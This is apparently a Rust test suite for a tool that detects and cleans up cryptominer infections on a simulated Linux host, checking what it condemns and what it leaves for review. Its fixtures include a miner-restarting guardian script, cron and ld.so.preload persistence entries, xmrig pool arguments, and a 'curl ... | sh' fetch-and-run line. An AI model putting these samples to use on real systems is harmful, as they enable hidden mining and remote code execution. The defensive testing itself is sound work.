//! Traces over a host in memory: what must be condemned, and above all what must not.

use deminer_worker::query::{OpenFile, Ownership, Query};
use deminer_worker::text::{Digest, HostBytes, Wide};

use proptest::prelude::*;

use super::stub::Stub;
use super::*;
use crate::example_rows::{Row, connection, starter};
use crate::judge::tests::{EXAMPLE_WALLET, shipped_verdict};

const MINER: &[u8] = b"\x7fELF\0the miner";
const PERL: &[u8] = b"\x7fELF\0perl of the package";

/// Judges the host by the shipped rules, traces it, and names what came out.
pub(super) async fn trace(stub: &Stub) -> (Outcome<Traced>, Names) {
    trace_with(stub, Vec::new()).await
}

/// The same, with paths that were condemned from outside.
pub(super) async fn trace_with(stub: &Stub, paths: Vec<HostPath>) -> (Outcome<Traced>, Names) {
    let verdict = shipped_verdict(stub.rows.clone(), stub.starters.clone(), stub.sockets.clone());
    let params = Params {
        verdict,
        paths,
        starters: stub.starters.clone(),
        units: Units::default(),
        sockets: stub.sockets.clone(),
        limits: Limits::default(),
    };
    let outcome = MinerTrace.collect(stub, params).await.expect("the stub answers");
    let name = |condemned: &Condemned| match &condemned.artifact {
        Artifact::Process { process } => format!("{} {}", process.pid, process.role),
        Artifact::File { file } => file.path.to_string(),
        Artifact::Line { file, line } => format!("{}:{}", file.path, line.number),
        Artifact::Link { link } => format!("{} -> {}", link.path, link.target),
        other => other.key(),
    };
    let names = Names {
        condemned: outcome.output.artifacts.iter().map(name).collect(),
        review: outcome.output.review.iter().map(name).collect(),
    };
    for condemned in &outcome.output.artifacts {
        assert!(!condemned.because.is_empty());
        let own = |finding: &&Finding| condemned.because.contains(&finding.id) && finding.bearing == Bearing::Condemns;
        assert!(
            outcome.findings.iter().any(|finding| own(&finding)),
            "condemned by a finding of its own"
        );
        assert!(condemned.component > 0);
    }
    (outcome, names)
}

/// A case in which these paths are condemned.
pub(super) fn case_of(paths: &[&str]) -> Case {
    Case {
        places: Places::of(&Limits::default()),
        boot_id: "boot".to_owned(),
        spared: BTreeSet::new(),
        spared_files: BTreeSet::new(),
        account: Account::default(),
        contents: Default::default(),
        paths: paths.iter().map(|path| HostPath::from(*path)).collect(),
        beside: BTreeSet::new(),
        homes: BTreeSet::new(),
        names: BTreeSet::new(),
        pids: Default::default(),
        uids: BTreeSet::new(),
        units: Default::default(),
        started_in: Vec::new(),
    }
}

pub(super) struct Names {
    pub(super) condemned: Vec<String>,
    pub(super) review: Vec<String>,
}

/// A miner in a temporary place, deleted, named as one: enough by itself.
pub(super) fn infected() -> Stub {
    Stub::default()
        .packaged("/usr/bin/dash", b"\x7fELF\0dash")
        .packaged("/usr/bin/sleep", b"\x7fELF\0sleep")
        .process(Row::runs(100, "/tmp/.x/xmrig", &["./xmrig"]).deleted().cpu(20), MINER)
}

fn sh(pid: u32, argv: &[&str]) -> Row {
    Row::runs(pid, "/usr/bin/dash", argv).packaged()
}

#[tokio::test]
async fn a_miner_with_all_that_belongs_to_it() {
    let guardian = b"#!/bin/sh\nwhile :; do\n  pgrep -x xmrig || { cp /var/tmp/.k/kw /tmp/.x/xmrig; /tmp/.x/xmrig & sleep 1; rm /tmp/.x/xmrig; }\n  sleep 2\ndone\n";
    let mut stub = Stub::default()
        .packaged("/usr/bin/dash", b"\x7fELF\0dash")
        .packaged("/usr/bin/sleep", b"\x7fELF\0sleep")
        .packaged("/usr/sbin/cron", b"\x7fELF\0cron")
        .file("/var/tmp/.k/kw", MINER)
        .file("/var/tmp/.k/watch.sh", guardian)
        .file("/tmp/.x/config.json", br#"{"pools": [{"url": "h:1", "user": "w"}]}"#)
        .process(
            sh(90, &["sh", "/var/tmp/.k/watch.sh"]).script("/var/tmp/.k/watch.sh"),
            b"\x7fELF\0dash",
        )
        .process(
            Row::runs(100, "/tmp/.x/xmrig", &["./xmrig"])
                .deleted()
                .cpu(20)
                .child_of(90),
            MINER,
        )
        .process(
            Row::runs(101, "/usr/bin/sleep", &["sleep", "2"])
                .packaged()
                .child_of(90),
            b"\x7fELF\0sleep",
        )
        .process(Row::runs(50, "/usr/sbin/cron", &["cron"]).packaged(), b"\x7fELF\0cron")
        .cron(3, "pgrep xmrig || /var/tmp/.k/watch.sh", &["/var/tmp/.k/watch.sh"])
        .cron(
            4,
            "/usr/local/bin/backup.sh; /var/tmp/.k/watch.sh",
            &["/usr/local/bin/backup.sh", "/var/tmp/.k/watch.sh"],
        )
        .cron(5, "/usr/local/bin/backup.sh", &["/usr/local/bin/backup.sh"]);
    stub.sockets.push(connection("198.51.100.23", 443, 100));
    let (outcome, names) = trace(&stub).await;
    assert_eq!(
        names.condemned,
        [
            "90 guardian",
            "100 miner",
            "/tmp/.x/config.json",
            "/var/tmp/.k/kw",
            "/var/tmp/.k/watch.sh",
            "/var/spool/cron/crontabs/root:3",
        ]
    );
    assert_eq!(
        names.review,
        ["/var/spool/cron/crontabs/root:4", "remote 198.51.100.23 443"]
    );
    assert_eq!(outcome.output.components.len(), 1);
    assert_eq!(outcome.output.components[0].remotes[0].address, "198.51.100.23");
    assert_eq!(outcome.output.cron.len(), 1);
    let replacement = outcome
        .findings
        .iter()
        .find_map(|finding| finding.fields.get("replacement"));
    assert_eq!(replacement.map(String::as_str), Some("/usr/local/bin/backup.sh"));
    let marks: Vec<String> = outcome
        .output
        .lines
        .iter()
        .map(|line| match &line.artifact {
            Artifact::Line { line, .. } => line.mark.to_string(),
            _ => String::new(),
        })
        .collect();
    assert_eq!(marks, ["/var/tmp/.k/watch.sh"]);
}

#[tokio::test]
async fn what_the_intruder_names_is_not_condemned() {
    let config = br#"{"pools": [{"url": "h:1", "user": "w"}], "log-file": "/srv/db/customers.ibd"}"#;
    let script =
        b"#!/bin/sh\n# /srv/backup/x.tar\nLOG=/srv/db/customers.ibd\nwhile :; do /tmp/.x/xmrig; sleep 1; done\n";
    let mut stub = infected()
        .file("/srv/db/customers.ibd", b"rows")
        .file("/srv/backup/x.tar", b"archive")
        .file("/tmp/.x/config.json", config)
        .file("/tmp/.x/run.sh", script)
        .process(
            sh(90, &["sh", "/tmp/.x/run.sh"]).script("/tmp/.x/run.sh"),
            b"\x7fELF\0dash",
        );
    let log = OpenFile {
        fd: 3,
        link: "/srv/db/customers.ibd".into(),
        id: None,
        writes: true,
    };
    stub.rows[0].process.fds = Some(vec![log]);
    let (_, names) = trace(&stub).await;
    assert_eq!(
        names.condemned,
        ["90 guardian", "100 miner", "/tmp/.x/config.json", "/tmp/.x/run.sh"]
    );
    assert_eq!(names.review, Vec::<String>::new());
}

#[tokio::test]
async fn arguments_never_condemn_the_file_of_another() {
    let argv = [
        "xmrig",
        "-o",
        "stratum+tcp://pool.supportxmr.com:3333",
        "--donate-level=1",
        "-u",
        "w",
        "-k",
    ];
    let framed = |stub: Stub| {
        let mut row = Row::runs(70, "/opt/erp/server", &argv).cpu(100).build();
        row.process.uid = 1000;
        stub.process(Row::from(row), b"\x7fELF\0erp")
    };
    // By arguments alone: a person looks.
    let (_, names) = trace(&framed(Stub::default().file("/opt/erp/server", b"\x7fELF\0erp"))).await;
    assert!(names.condemned.is_empty());
    assert_eq!(names.review, ["70 companion"]);
    // With a line of the intruder's that starts it: the process goes, the file of another user stays.
    let stub = framed(Stub::default().file("/opt/erp/server", b"\x7fELF\0erp"));
    let (_, names) = trace(&stub.cron(1, "/opt/erp/server", &["/opt/erp/server"])).await;
    assert_eq!(names.condemned, ["70 miner"]);
    assert_eq!(
        names.review,
        ["/opt/erp/server"],
        "the line starts a file that is not condemned: it stays too"
    );
    // What the process's own user could have put there is his.
    let stub = framed(Stub::default().file_of(1000, "/opt/erp/server", b"\x7fELF\0erp"));
    let (_, names) = trace(&stub.cron(1, "/opt/erp/server", &["/opt/erp/server"])).await;
    assert_eq!(
        names.condemned,
        ["70 miner", "/opt/erp/server", "/var/spool/cron/crontabs/root:1"]
    );
}

#[tokio::test]
async fn a_bind_mount_of_the_systems_programs_stays() {
    let python = b"\x7fELF\0python";
    let copied = Ownership::Copied {
        package: "python3".to_owned(),
        original: "/usr/bin/python3".into(),
    };
    let argv = [
        "x",
        "-o",
        "stratum+tcp://h:1",
        "--donate-level=1",
        "-u",
        EXAMPLE_WALLET,
        "-k",
    ];
    let stub = Stub::default()
        .packaged("/usr/bin/python3", python)
        .file("/tmp/.x/python3", python)
        .owned("/tmp/.x/python3", copied.clone())
        .file("/tmp/.x/m.py", b"#!/usr/bin/python3\nmine()\n")
        .process(
            Row::runs(100, "/tmp/.x/python3", &argv)
                .owned(copied)
                .cpu(100)
                .script("/tmp/.x/m.py"),
            python,
        );
    let (_, names) = trace(&stub).await;
    assert_eq!(names.condemned, ["100 miner"]);
}

#[tokio::test]
async fn a_copied_perl_is_perl() {
    let copied = Ownership::Copied {
        package: "perl".to_owned(),
        original: "/usr/bin/perl".into(),
    };
    let stub = infected()
        .packaged("/usr/bin/perl", PERL)
        .file("/tmp/.x/x", PERL)
        .owned("/tmp/.x/x", copied.clone())
        .process(Row::runs(95, "/tmp/.x/x", &["x"]).owned(copied), PERL);
    let (_, names) = trace(&stub).await;
    assert_eq!(names.condemned, ["100 miner"]);
}

#[tokio::test]
async fn a_package_of_the_miners_own_is_for_a_person() {
    let argv = [
        "x",
        "-o",
        "stratum+tcp://h:1",
        "--donate-level=1",
        "-u",
        EXAMPLE_WALLET,
        "-k",
    ];
    let (path, perl) = ("/usr/lib/sysmon/xmrig", "/usr/bin/perl5.36");
    let row = Row::runs(100, path, &argv).packaged().cpu(100);
    let (_, names) = trace(&Stub::default().packaged(path, MINER).process(row, MINER)).await;
    assert_eq!(names.condemned, ["100 miner"]);
    assert_eq!(names.review, [path]);
    // An interpreter is none of his, whatever he runs in it.
    let row = Row::runs(100, perl, &argv).packaged().cpu(100);
    let stub = Stub::default()
        .packaged(perl, PERL)
        .file("/tmp/.x/m.pl", b"mine()\n")
        .process(row.script("/tmp/.x/m.pl").named("kworker/0:1"), PERL);
    let (_, names) = trace(&stub).await;
    assert_eq!(names.condemned, ["100 miner"]);
    assert_eq!(names.review, Vec::<String>::new());
}

#[tokio::test]
async fn a_copy_of_another_users_program_condemns_no_original() {
    let erp = b"\x7fELF\0erp of a customer";
    let mut stub = Stub::default()
        .file("/opt/erp/server", erp)
        .file("/tmp/xmrig", erp)
        .process(Row::runs(60, "/opt/erp/server", &["server"]), erp)
        .process(
            Row::runs(100, "/tmp/xmrig", &["xmrig", "-o", "stratum+tcp://h:1", "-a", "rx/0"]).cpu(50),
            erp,
        );
    stub.rows[1].process.cwd = Some("/opt/erp".into());
    let (_, names) = trace(&stub).await;
    assert_eq!(names.condemned, ["100 miner", "/tmp/xmrig"]);
    assert_eq!(names.review, ["60 companion", "/opt/erp/server"]);
}

#[tokio::test]
async fn a_name_in_another_mount_namespace_is_not_the_hosts() {
    let mut stub = infected()
        .file("/usr/local/bin/backup", b"#!/bin/sh\ntar c /srv\n")
        .process(
            Row::runs(1, "/usr/lib/systemd/systemd", &["init"]).packaged(),
            b"\x7fELF\0init",
        )
        .process(
            Row::runs(
                101,
                "/usr/local/bin/backup",
                &["x", "-o", "stratum+tcp://h:1", "-a", "rx/0", "-u", EXAMPLE_WALLET],
            )
            .named("kworker/0:1"),
            MINER,
        )
        .cron(1, "/usr/local/bin/backup", &["/usr/local/bin/backup"]);
    for row in &mut stub.rows {
        row.process.mount_namespace = Some(Wide(if row.process.pid == 101 { 2 } else { 1 }));
    }
    let (_, names) = trace(&stub).await;
    assert_eq!(names.condemned, ["100 miner", "101 miner"]);
    assert!(names.review.is_empty());
}

#[tokio::test]
async fn the_intruder_lends_himself_no_power() {
    let tool = b"\x7fELF\0a tool of bob";
    let as_user = |row: Row| {
        let mut row = row.build();
        row.process.uid = 33;
        Row::from(row)
    };
    let argv = ["x", "-o", "stratum+tcp://h:1", "-a", "rx/0", "-u", EXAMPLE_WALLET];
    let mut stub = Stub::default()
        .file_of(1000, "/home/bob/.app/tool", tool)
        .file_of(1000, "/home/bob/.app/other", b"\x7fELF\0other")
        .file_of(33, "/tmp/.w/copy", tool)
        // Runs a copy of bob's tool as a miner, and another program of bob's as its child.
        .process(as_user(Row::runs(100, "/tmp/.w/copy", &argv).cpu(50)), tool)
        .process(
            as_user(Row::runs(101, "/home/bob/.app/other", &["other"]).child_of(100)),
            b"\x7fELF\0other",
        );
    stub.rows[0].process.cwd = Some("/home/bob/.app".into());
    let (_, names) = trace(&stub).await;
    assert_eq!(names.condemned, ["100 miner", "101 companion", "/tmp/.w/copy"]);
    assert_eq!(names.review, ["/home/bob/.app/other", "/home/bob/.app/tool"]);
}

#[tokio::test]
async fn never_upward_into_what_serves() {
    let mut stub = infected()
        .packaged("/usr/sbin/sshd", b"\x7fELF\0sshd")
        .packaged("/usr/bin/bash", b"\x7fELF\0bash")
        .file("/opt/.app/server", b"\x7fELF\0app")
        .process(
            Row::runs(1, "/usr/lib/systemd/systemd", &["init"]).packaged(),
            b"\x7fELF\0init",
        )
        .process(Row::runs(80, "/opt/.app/server", &["server"]), b"\x7fELF\0app")
        .process(
            Row::runs(81, "/usr/bin/bash", &["-bash"]).packaged().child_of(80),
            b"\x7fELF\0bash",
        )
        .process(Row::runs(82, "/tmp/mine", &["mine"]).child_of(1), b"\x7fELF\0ours");
    stub.rows[0].process.ppid = 80;
    stub.rows[0].process.session = 81;
    stub.own_chain = vec![82, 1];
    let mut listener = connection("0.0.0.0", 8080, 80);
    listener.remote = None;
    listener.state = "listen".to_owned();
    stub.sockets.push(listener);
    for row in &mut stub.rows {
        if row.process.pid == 81 || row.process.pid == 82 {
            row.process.session = 81;
        }
    }
    let (_, names) = trace(&stub).await;
    assert_eq!(names.condemned, ["100 miner"]);
    assert_eq!(names.review, ["80 companion"]);
}

#[tokio::test]
async fn what_runs_containers_stays_whoever_brought_it() {
    let shim = "/usr/local/bin/containerd-shim-runc-v2";
    let of_container = [
        "containerd-shim-runc-v2",
        "-namespace",
        "moby",
        "-id",
        "0123456789abcdef",
    ];
    let mut stub = infected()
        .file(shim, b"\x7fELF\0shim")
        .process(
            Row::runs(1, "/usr/lib/systemd/systemd", &["init"]).packaged(),
            b"\x7fELF\0init",
        )
        .process(Row::runs(60, shim, &of_container).child_of(1), b"\x7fELF\0shim")
        .process(Row::runs(61, shim, &of_container).child_of(1), b"\x7fELF\0shim")
        .process(
            Row::runs(70, "/usr/local/bin/postgres", &["postgres"])
                .child_of(61)
                .cpu(90),
            b"\x7fELF\0pg",
        );
    stub.rows[0].process.ppid = 60;
    for row in &mut stub.rows {
        let inside = matches!(row.process.pid, 70 | 100);
        row.process.mount_namespace = Some(Wide(if inside { 2 } else { 1 }));
    }
    let (_, names) = trace(&stub).await;
    assert_eq!(names.condemned, ["100 miner"]);
}

#[tokio::test]
async fn a_container_that_is_started_again_is_told() {
    let id = |digit: &str| digit.repeat(64);
    let config = |digit: &str| format!("/var/lib/docker/containers/{}/hostconfig.json", id(digit));
    let policy = |name: &str| format!(r#"{{"RestartPolicy":{{"Name":"{name}"}}}}"#);
    let rows = [
        (
            "always",
            format!("/system.slice/docker-{}.scope", id("a")),
            Some("whose restart policy is `always`"),
        ),
        ("no", format!("/system.slice/docker-{}.scope", id("a")), None),
        ("no", "/system.slice/cron.service".to_owned(), None),
        (
            "no",
            format!("/machine.slice/libpod-{}.scope", id("a")),
            Some("could not be read"),
        ),
        (
            "no",
            format!(
                "/kubepods/besteffort/pod2c48913c-b29f-11e7-9350-020968147796/{}",
                id("a")
            ),
            Some("Kubernetes pod"),
        ),
    ];
    for (name, cgroup, expected) in rows {
        // Beside it the shop's own container, which is always started again.
        let mut stub = infected()
            .file(&config("a"), policy(name).as_bytes())
            .file(&config("b"), policy("always").as_bytes())
            .process(
                Row::runs(70, "/usr/local/bin/postgres", &["postgres"]).child_of(61),
                b"\x7fELF\0pg",
            );
        for row in &mut stub.rows {
            let own = format!("/system.slice/docker-{}.scope", id("b"));
            row.process.cgroup = HostBytes::from(if row.process.pid == 100 { &*cgroup } else { &*own });
        }
        let (outcome, names) = trace(&stub).await;
        assert!(names.condemned.contains(&"100 miner".to_owned()), "{cgroup}");
        let told: Vec<String> = (outcome.findings.iter())
            .filter(|finding| finding.signal == "container_restarts")
            .map(Finding::sentence)
            .collect();
        match expected {
            None => assert_eq!(told, [""; 0], "{name} {cgroup}"),
            Some(words) => {
                assert_eq!(told.len(), 1, "{cgroup}");
                assert!(told[0].contains(words) && told[0].contains(&id("a")), "{told:?}");
            }
        }
    }
}

#[tokio::test]
async fn guardians_of_every_kind() {
    let mut stub = infected()
        .process(Row::runs(70, "/tmp/.x/guard", &["guard"]).deleted(), b"\x7fELF\0guard")
        .process(
            sh(71, &["sh", "-c", "while :; do /tmp/.x/xmrig; sleep 1; done"]).child_of(70),
            b"\x7fELF\0dash",
        )
        .process(Row::runs(72, "/var/tmp/.k/kw", &["kw"]), MINER)
        .process(sh(73, &["sh", "/tmp/gone.sh"]).child_of(71), b"\x7fELF\0dash")
        .process(
            Row::runs(110, "/tmp/.x/xmrig", &["./xmrig"]).deleted().child_of(100),
            MINER,
        )
        .process(
            Row::runs(111, "/tmp/.x/helper", &["helper"]).child_of(100),
            b"\x7fELF\0helper",
        )
        .process(
            Row::runs(112, "/usr/bin/sleep", &["sleep", "9"])
                .packaged()
                .child_of(100),
            b"\x7fELF\0sleep",
        )
        .process(sh(113, &["sh", "-c", "ls /tmp/.x/xmrig"]), b"\x7fELF\0dash");
    stub.rows[0].process.ppid = 73;
    let (_, names) = trace(&stub).await;
    assert_eq!(
        names.condemned,
        [
            "70 guardian",
            "71 guardian",
            "72 guardian",
            "73 guardian",
            "100 miner",
            "110 miner",
            "111 companion"
        ]
    );
}

#[tokio::test]
async fn who_only_names_the_miner_is_for_a_person() {
    let stub = infected()
        .file("/tmp/triage/scan", b"\x7fELF\0scan")
        .file("/tmp/.x/again", b"\x7fELF\0again")
        .process(
            Row::runs(60, "/tmp/triage/scan", &["scan", "/tmp/.x/xmrig"]),
            b"\x7fELF\0scan",
        )
        .process(
            Row::runs(61, "/tmp/.x/again", &["again", "/tmp/.x/xmrig"]),
            b"\x7fELF\0again",
        )
        .process(
            Row::runs(62, "/opt/erp/scan", &["scan", "/tmp/.x/xmrig"]),
            b"\x7fELF\0erp",
        );
    let (_, names) = trace(&stub).await;
    assert_eq!(names.condemned, ["61 guardian", "100 miner", "/tmp/.x/again"]);
    assert_eq!(names.review, ["60 companion"]);
}

#[tokio::test]
async fn an_administrators_words_about_it_stay() {
    let cleaner = b"#!/bin/sh\npkill xmrig\nrm -f /tmp/.x/xmrig\n";
    let stub = infected()
        .file("/tmp/cleanup.sh", cleaner)
        .file("/tmp/.x/README", b"found by us: /tmp/.x/xmrig\n")
        .process(
            sh(90, &["sh", "/tmp/cleanup.sh"]).script("/tmp/cleanup.sh"),
            b"\x7fELF\0dash",
        )
        .cron(1, "rm -f /tmp/.x/xmrig", &[])
        .cron(2, "curl -fsS https://example.net/i | sh", &[]);
    let (_, names) = trace(&stub).await;
    assert_eq!(names.condemned, ["100 miner"]);
    assert_eq!(names.review, ["/var/spool/cron/crontabs/root:2"]);
}

#[tokio::test]
async fn droppers_and_whole_files() {
    let only = b"#!/bin/sh\n/tmp/.x/xmrig >/dev/null 2>&1 &\n";
    let mixed = b"#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n/tmp/.x/xmrig &\n";
    let whole = |mut starter: Starter| {
        starter.number = None;
        starter.line = HostBytes::default();
        starter
    };
    let mut stub = infected()
        .file("/etc/cron.daily/only", only)
        .file("/etc/cron.daily/mixed", mixed)
        .file("/usr/local/bin/refresh", only)
        .packaged("/etc/cron.daily/apt", only)
        .cron(1, "/usr/local/bin/refresh", &["/usr/local/bin/refresh"]);
    for name in ["only", "mixed", "apt"] {
        let file = format!("/etc/cron.daily/{name}");
        let mut one = whole(starter(Place::CronPeriodic, &file, "", &file, &[file.as_str()]));
        one.file.path = file.as_str().into();
        stub.starters.push(one);
    }
    let (_, names) = trace(&stub).await;
    assert_eq!(
        names.condemned,
        [
            "100 miner",
            "/etc/cron.daily/only",
            "/usr/local/bin/refresh",
            "/var/spool/cron/crontabs/root:1"
        ]
    );
    assert_eq!(names.review, ["/etc/cron.daily/apt", "/etc/cron.daily/mixed"]);
}

#[tokio::test]
async fn preloaded_libraries() {
    let hides = b"\x7fELF\0readdir64\0readdir\0xmrig\0";
    let stub = infected()
        .file("/usr/local/lib/libhide.so", hides)
        .file("/usr/local/lib/libsnoopy.so", b"\x7fELF\0execve\0")
        .starter(
            Place::Preload,
            "/etc/ld.so.preload",
            1,
            "/usr/local/lib/libhide.so",
            "/usr/local/lib/libhide.so",
            &["/usr/local/lib/libhide.so"],
        )
        .starter(
            Place::Preload,
            "/etc/ld.so.preload",
            2,
            "/usr/local/lib/libsnoopy.so",
            "/usr/local/lib/libsnoopy.so",
            &["/usr/local/lib/libsnoopy.so"],
        );
    let (outcome, names) = trace(&stub).await;
    assert_eq!(
        names.condemned,
        ["100 miner", "/usr/local/lib/libhide.so", "/etc/ld.so.preload:1"]
    );
    assert_eq!(names.review, ["/etc/ld.so.preload:2"]);
    assert_eq!((outcome.output.preload.len(), outcome.output.cron.len()), (1, 0));
    // A library that a line goes on to load is not taken from under it.
    let both = infected()
        .file("/usr/local/lib/libhide.so", hides)
        .packaged("/usr/lib/libjemalloc.so.2", b"\x7fELF\0malloc\0")
        .starter(
            Place::Preload,
            "/etc/ld.so.preload",
            1,
            "/usr/lib/libjemalloc.so.2 /usr/local/lib/libhide.so",
            "/usr/lib/libjemalloc.so.2 /usr/local/lib/libhide.so",
            &["/usr/lib/libjemalloc.so.2", "/usr/local/lib/libhide.so"],
        );
    let (_, names) = trace(&both).await;
    assert_eq!(names.condemned, ["100 miner"]);
    assert_eq!(names.review, ["/etc/ld.so.preload:1", "/usr/local/lib/libhide.so"]);
}

#[tokio::test]
async fn two_miners_are_two_components() {
    let other = b"\x7fELF\0another miner";
    let stub = infected().file("/var/tmp/.b/xmr-stak", other).process(
        Row::runs(40, "/var/tmp/.b/xmr-stak", &["x", "-a", "rx/0"]).cpu(100),
        other,
    );
    let (outcome, _) = trace(&stub).await;
    let components: Vec<(u32, usize)> = outcome
        .output
        .components
        .iter()
        .map(|one| (one.id, one.condemned.len()))
        .collect();
    assert_eq!(components, [(1, 2), (2, 1)]);
}

#[tokio::test]
async fn our_own_chain_is_spared_whatever_it_runs() {
    let mut stub = infected();
    stub.own_chain = vec![100, 1];
    let (_, names) = trace(&stub).await;
    assert!(names.condemned.is_empty());
    assert_eq!(names.review, ["100 companion"]);
}

#[tokio::test]
async fn what_is_too_large_to_hash_is_said() {
    let mut stub = infected();
    let exe = stub.rows[0].process.exe.as_mut().expect("runs a file");
    (exe.size, exe.sha256) = (Wide(900 << 30), None);
    let (outcome, names) = trace(&stub).await;
    assert!(names.condemned.is_empty());
    assert_eq!(names.review, ["100 companion"]);
    let finding = outcome
        .findings
        .iter()
        .find(|finding| finding.signal == "executable_too_large");
    let finding = finding.expect("it is said");
    assert_eq!(finding.bearing, Bearing::Review);
    assert!(
        finding.sentence().contains("/tmp/.x/xmrig, is too large to hash"),
        "{}",
        finding.sentence()
    );
}

#[tokio::test]
async fn a_reused_pid_is_another_process() {
    let stub = infected().file("/tmp/.x/copy", MINER);
    let verdict = shipped_verdict(stub.rows.clone(), Vec::new(), Vec::new());
    let mut now = infected().file("/tmp/.x/copy", MINER);
    now.rows[0].process.start_ticks = Wide(1);
    now.rows[0].process.exe.as_mut().expect("runs a file").sha256 = Some(Digest::of(b"other"));
    let params = Params {
        verdict,
        paths: Vec::new(),
        starters: Vec::new(),
        units: Units::default(),
        sockets: Vec::new(),
        limits: Limits::default(),
    };
    let outcome = MinerTrace.collect(&now, params).await.expect("the stub answers");
    assert!(outcome.output.processes.is_empty());
    assert_eq!(outcome.output.files.len(), 1);
}

#[tokio::test]
async fn a_clean_host_is_left_unsearched() {
    let stub = Stub::default().process(
        Row::runs(9, "/usr/bin/postgres", &["postgres"]).packaged().cpu(400),
        b"pg",
    );
    let (outcome, names) = trace(&stub).await;
    assert!(names.condemned.is_empty() && names.review.is_empty() && outcome.findings.is_empty());
    let asked = stub.asked.lock().expect("one thread");
    assert!(!asked.iter().any(|query| matches!(query, Query::Walk { .. })));
}

#[tokio::test]
async fn too_many_is_said() {
    let mut stub = infected();
    for number in 0..70 {
        stub = stub.file(&format!("/tmp/.x/copy{number}"), MINER);
    }
    let (outcome, names) = trace(&stub).await;
    assert_eq!(names.condemned.len(), 71);
    assert!(outcome.findings.iter().any(|finding| finding.signal == "too_many"));
}

#[tokio::test]
async fn a_line_that_starts_from_its_home() {
    let stub = infected()
        .file("/home/deploy/.configrc/a/kw", MINER)
        .process(
            Row::runs(
                101,
                "/home/deploy/.configrc/a/kw",
                &["kw", "-a", "rx/0", "-o", "stratum+tcp://h:1"],
            )
            .cpu(90),
            MINER,
        )
        .cron(1, "~/.configrc/a/kw -q", &["/home/deploy/.configrc/a/kw"])
        .cron(2, "cd .configrc/a; ./kw; backup", &["/home/deploy/.configrc/a/kw"]);
    let (_, names) = trace(&stub).await;
    assert!(names.condemned.contains(&"/var/spool/cron/crontabs/root:1".to_owned()));
    assert_eq!(names.review, ["/var/spool/cron/crontabs/root:2"]);
}

proptest! {
    #[test]
    fn no_hostile_host_panics(
        command: Vec<u8>, line: Vec<u8>, script: Vec<u8>, started: Vec<u8>, argv: Vec<Vec<u8>>, link: Vec<u8>, path: Vec<u8>,
    ) {
        let mut stub = infected()
            .file("/tmp/.x/a", &script)
            .process(sh(90, &["sh", "/tmp/.x/a"]).script("/tmp/.x/a"), b"\x7fELF\0dash")
            .cron(1, "x", &["/tmp/.x/a"]);
        stub.rows[0].process.ppid = 90;
        stub.rows[1].process.ppid = 100;
        stub.rows[1].process.argv = argv.into_iter().map(HostBytes::new).collect();
        let exe = stub.rows[0].process.exe.as_mut().expect("runs a file");
        exe.path = HostPath::new([b"/tmp/.x/".to_vec(), path, b"/xmrig".to_vec()].concat());
        stub.rows[1].process.fds = Some(vec![OpenFile { fd: 1, link: HostBytes::new(link), id: None, writes: false }]);
        stub.starters[0].command = HostBytes::new(command);
        stub.starters[0].line = HostBytes::new(line);
        stub.starters[0].starts.push(HostPath::new(started));
        let runtime = tokio::runtime::Builder::new_current_thread().build().expect("a runtime");
        let (outcome, _) = runtime.block_on(trace(&stub));
        for finding in &outcome.findings {
            prop_assert!(!finding.sentence().chars().any(char::is_control));
        }
    }
}

#[tokio::test]
async fn a_shared_session_is_no_tie_own_bytes_are() {
    let mut stub = infected()
        .process(Row::runs(120, "/tmp/other/dataminer", &["dataminer"]), b"\x7fELF\0data")
        .process(Row::runs(121, "/tmp/.x/tool", &["tool"]), b"\x7fELF\0tool")
        .file("/tmp/.x/tool", b"\x7fELF\0tool")
        .file("/tmp/.x/watcher", b"\x7fELF\0starts\0/tmp/.x/xmrig\0")
        .process(
            Row::runs(122, "/tmp/.x/watcher", &["watcher"]),
            b"\x7fELF\0starts\0/tmp/.x/xmrig\0",
        )
        .process(
            Row::runs(123, "/tmp/.x/again", &["again", "/tmp/.x/xmrig"]),
            b"\x7fELF\0again",
        );
    for row in &mut stub.rows {
        row.process.session = 100;
        row.process.pgid = 100;
    }
    let (_, names) = trace(&stub).await;
    assert!(
        names.condemned.iter().any(|name| name == "122 guardian"),
        "{:?}",
        names.condemned
    );
    assert!(
        names.condemned.iter().any(|name| name == "123 guardian"),
        "{:?}",
        names.condemned
    );
    for pid in ["120 ", "121 "] {
        assert!(
            !names.condemned.iter().any(|name| name.starts_with(pid)),
            "{:?}",
            names.condemned
        );
    }
}
